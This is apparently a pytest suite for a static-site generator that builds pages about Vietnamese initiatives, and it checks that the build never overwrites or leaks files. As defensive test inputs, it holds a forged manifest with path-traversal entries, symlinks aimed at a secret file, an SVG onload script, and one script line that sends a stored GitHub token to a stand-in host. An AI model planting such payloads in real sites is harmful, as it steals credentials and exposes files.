"""Writing into ``docs/``: never over a hand-written file of any kind, never needlessly."""

from __future__ import annotations

import io
import json
import os
import subprocess
from pathlib import Path

import pytest

from generator.build import generate
from generator.layout import MANIFEST
from generator.publish.write import owned_files, write_outputs

from ..check.test_fuzz import run_main

IMAGE = "sang-kien/tuyen-pho-khong-tien-mat/1-quay-ma-qr.png"
LONG_AGO = 1_000_000_000 * 10**9  # 2001-09-09, in nanoseconds: no build writes that


@pytest.mark.parametrize(
    "path", ["du-lieu/initiatives.json", "du-lieu/initiatives.csv", IMAGE, "tinh/index.md"]
)
def test_no_generated_file_overwrites_a_hand_written_one(project: Path, path: str) -> None:
    hand_written = project / "docs" / path
    hand_written.parent.mkdir(parents=True, exist_ok=True)
    hand_written.write_bytes(b"viet tay")
    _, issues, site, _ = generate(project)
    assert site is None
    assert [issue.as_text() for issue in issues] == [
        f"docs/{path}:1:1: error: file: trang viết tay này trùng đường dẫn với một trang được "
        "sinh tự động; hãy đổi tên hoặc chuyển nó — this hand-written page has the path of a "
        "generated page; rename or move it"
    ]
    assert hand_written.read_bytes() == b"viet tay"
    assert not (project / "docs" / "sang-kien" / "hen-gio-tra-ket-qua.md").exists()


def test_unchanged_generated_files_are_not_rewritten(project: Path) -> None:
    assert generate(project)[2] is not None
    docs = project / "docs"
    kept = [
        docs / "sang-kien/hen-gio-tra-ket-qua.md",
        docs / "du-lieu/initiatives.json",
        docs / IMAGE,
    ]
    changed = docs / "sang-kien/nhan-tra-tai-nha.md"
    for path in [*kept, changed]:
        os.utime(path, ns=(LONG_AGO, LONG_AGO))
    record = project / "initiatives/cao-bang/nhan-tra-tai-nha.md"
    record.write_text(record.read_text("utf-8") + "\nThêm một dòng.\n", "utf-8")
    assert generate(project)[2] is not None
    assert [path.stat().st_mtime_ns for path in kept] == [LONG_AGO] * len(kept)
    assert changed.stat().st_mtime_ns != LONG_AGO
    assert "Thêm một dòng." in changed.read_text("utf-8")


def test_a_dropped_image_takes_its_emptied_folder_with_it(project: Path) -> None:
    assert generate(project)[2] is not None
    folder = project / "docs" / IMAGE.rsplit("/", 1)[0]
    assert (folder / "1-quay-ma-qr.png").is_file()
    record = project / "initiatives/dak-lak/tuyen-pho-khong-tien-mat.md"
    text = record.read_text("utf-8")
    start, end = text.index("images:\n"), text.index("sources:\n")
    text = text[:start] + text[end:]
    text = "\n".join(line for line in text.split("\n") if "](anh/" not in line)  # body too
    record.write_text(text, "utf-8")
    assert generate(project)[2] is not None
    assert not folder.exists()
    assert (project / "docs" / "sang-kien" / "tuyen-pho-khong-tien-mat.md").is_file()


def test_outputs_of_every_kind_land_in_new_nested_folders(tmp_path: Path) -> None:
    """Text, bytes and a file to copy, each several folders deep in an empty ``docs/``."""
    picture = tmp_path / "ảnh gốc.png"
    picture.write_bytes(b"\x89PNG\r\n")
    docs = tmp_path / "docs"
    outputs = {
        "sang-kien/mot/trang.md": "# Một cửa\n",
        "du-lieu/cuoc-thi/a/b.json": b'{"x": 1}',
        "sang-kien/mot/anh-1-ảnh gốc.png": picture,
    }
    write_outputs(outputs, docs)
    assert (docs / "sang-kien/mot/trang.md").read_text(encoding="utf-8") == "# Một cửa\n"
    assert (docs / "du-lieu/cuoc-thi/a/b.json").read_bytes() == b'{"x": 1}'
    assert (docs / "sang-kien/mot/anh-1-ảnh gốc.png").read_bytes() == b"\x89PNG\r\n"
    manifest = (docs / MANIFEST).read_bytes().decode("utf-8")
    assert "anh-1-ảnh gốc.png" in manifest  # names as written, readable in the file
    assert owned_files(docs) == set(outputs)


def test_stale_files_go_even_if_deleted_by_hand_and_docs_stays(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    write_outputs({"a/b/c.md": "x", "a/d.md": "y"}, docs)
    (docs / "a/d.md").unlink()  # someone cleaned up by hand
    write_outputs({}, docs)
    assert sorted(p.name for p in docs.iterdir()) == [MANIFEST]
    assert owned_files(docs) == set()


def test_the_record_of_generated_files_is_utf8_whatever_the_locale(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On Windows the locale's codec is cp1252: it cannot write an image named "ảnh chợ"."""
    monkeypatch.setattr(io, "text_encoding", lambda encoding, *_: encoding or "cp1252")
    docs = tmp_path / "docs"
    image = "sang-kien/cho-dem/1-ảnh-chợ.png"
    write_outputs({image: b"PNG", "sang-kien/cho-dem.md": "# Chợ đêm"}, docs)
    assert owned_files(docs) == {image, "sang-kien/cho-dem.md"}
    assert image in (docs / MANIFEST).read_bytes().decode("utf-8")
    write_outputs({"sang-kien/cho-dem.md": "# Chợ đêm"}, docs)  # the image was dropped
    assert not (docs / image).exists()


# --- a manifest from a pull request (issue 21) -------------------------------------------


def git_repository(root: Path) -> None:
    """``root`` committed as a pull request's checkout would be (generated files ignored)."""
    git = ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@example.org"]
    (root / ".gitignore").write_text("/site/\n/docs/sang-kien/\n/docs/tinh/\n", "utf-8")
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "base"], check=True)


def test_a_forged_manifest_deletes_nothing_outside_docs_nor_a_tracked_page(
    project: Path,
) -> None:
    elsewhere = project.parent / "elsewhere" / "file"
    elsewhere.parent.mkdir()
    elsewhere.write_text("kept", "utf-8")
    forged = ["../../elsewhere/file", "gioi-thieu.md", str(elsewhere), "./dong-gop.md"]
    (project / "docs" / MANIFEST).write_text(json.dumps(forged), "utf-8")
    git_repository(project)  # the manifest is committed (force-added) with the pages
    about = (project / "docs" / "gioi-thieu.md").read_bytes()
    assert run_main("--root", str(project), "build")[0] == 0
    assert elsewhere.read_text("utf-8") == "kept"
    assert (project / "docs" / "gioi-thieu.md").read_bytes() == about
    assert (project / "docs" / "dong-gop.md").is_file()
    assert (project / "site" / "gioi-thieu" / "index.html").is_file()
    assert not set(forged) & set(json.loads((project / "docs" / MANIFEST).read_text("utf-8")))


def test_a_forged_manifest_cannot_claim_a_tracked_page_at_a_generated_path(
    project: Path,
) -> None:
    """A hand-written ``tinh/index.md`` the manifest says is generated is still not replaced."""
    page = project / "docs" / "tinh" / "index.md"
    page.parent.mkdir()
    page.write_text("# Viết tay\n", "utf-8")
    (project / "docs" / MANIFEST).write_text(json.dumps(["tinh/index.md"]), "utf-8")
    git_repository(project)
    subprocess.run(["git", "-C", str(project), "add", "-f", "docs/tinh/index.md"], check=True)
    _, issues, site, _ = generate(project)
    assert site is None
    assert [issue.code for issue in issues] == ["overwrite-hand-written"]
    assert page.read_text("utf-8") == "# Viết tay\n"


def test_docs_holds_no_link_to_write_or_delete_through(project: Path) -> None:
    outside = project.parent / "outside"
    outside.mkdir()
    (project / "docs" / "sang-kien").symlink_to(outside, target_is_directory=True)
    code, _, err = run_main("--root", str(project), "build")
    assert code == 1 and err.splitlines()[0] == (
        "docs/sang-kien:1:1: error: file: đây là liên kết tượng trưng (symlink), không được "
        "đọc; hãy thay bằng tệp hoặc thư mục thật, hoặc xóa nó — this is a symbolic link, which "
        "is never followed; replace it with the real file or folder, or remove it"
    )
    assert list(outside.iterdir()) == []
    (project / "docs" / "sang-kien").unlink()
    victim = project.parent / "victim.txt"
    victim.write_text('["gioi-thieu.md"]', "utf-8")
    (project / "docs" / MANIFEST).symlink_to(victim)  # neither read nor written through
    assert run_main("--root", str(project), "build")[0] == 0
    assert victim.read_text("utf-8") == '["gioi-thieu.md"]'
    assert (project / "docs" / "gioi-thieu.md").is_file()
    assert not (project / "docs" / MANIFEST).is_symlink()


LINK = (
    ":1:1: error: file: đây là liên kết tượng trưng (symlink), không được đọc; hãy thay bằng"
    " tệp hoặc thư mục thật, hoặc xóa nó — this is a symbolic link, which is never followed;"
    " replace it with the real file or folder, or remove it"
)


def test_the_build_publishes_nothing_through_a_link_at_docs_or_in_theme(project: Path) -> None:
    """``docs`` as a link to another folder was written into (every generated page) and
    published whole, and a link in ``theme/`` (MkDocs copies the theme's files into the
    site) published the file it names: any file of the machine that builds the site."""
    secret = project.parent / "secret.txt"
    secret.write_text("bí mật", "utf-8")
    (project / "theme" / "overrides" / "assets" / "k.txt").symlink_to(secret)
    code, _, err = run_main("--root", str(project), "build")
    assert (code, err.splitlines()[0]) == (1, "theme/overrides/assets/k.txt" + LINK)
    assert not (project / "site").exists()
    (project / "theme" / "overrides" / "assets" / "k.txt").unlink()
    outside = project.parent / "outside"
    (project / "docs").rename(outside)
    (project / "docs").symlink_to(outside, target_is_directory=True)
    before = sorted(outside.rglob("*"))
    code, _, err = run_main("--root", str(project), "build")
    assert (code, err.splitlines()[0]) == (1, "docs" + LINK)
    assert sorted(outside.rglob("*")) == before  # nothing written there
    assert not (project / "site").exists()


RUNS = (
    ":1:1: error: file: trình duyệt chạy tệp này như một trang hay một chương trình, trên chính"
    " tên miền của trang và không có chính sách bảo mật nội dung (CSP): nó đọc được mọi thứ của"
    " trang, kể cả khóa GitHub của trình soạn thảo web; trang viết tay là tệp Markdown (.md),"
    " hãy đưa nội dung vào một trang .md hoặc xóa tệp — a browser runs this file as a page or a"
    " program, on the site's own origin and without its Content-Security-Policy: it can read"
    " everything of the site, the web editor's GitHub token included; hand-written pages are"
    " Markdown (.md): move its content into a .md page, or remove the file"
)


def test_the_build_publishes_no_hand_written_file_a_browser_runs(project: Path) -> None:
    """``docs/tro-giup.html`` (a pull request's "help page") was copied into the site as it
    is: a page of the site's origin without its policy, whose script reads the officer's
    GitHub token (``localStorage['decap-cms-user']``). No check looked at it."""
    page = "<script>fetch('//x.example/?' + localStorage['decap-cms-user'])</script>"
    (project / "docs" / "tro-giup.html").write_text(page, "utf-8")
    (project / "docs" / "tai-lieu").mkdir()
    (project / "docs" / "tai-lieu" / "mau.svg").write_text("<svg onload=alert(1)/>", "utf-8")
    (project / "docs" / "tai-lieu" / "quy-che.pdf").write_bytes(b"%PDF-1.4")  # a document: fine
    code, _, err = run_main("--root", str(project), "build")
    assert code == 1
    assert err.splitlines()[:2] == ["docs/tai-lieu/mau.svg" + RUNS, "docs/tro-giup.html" + RUNS]
    assert not (project / "site").exists()
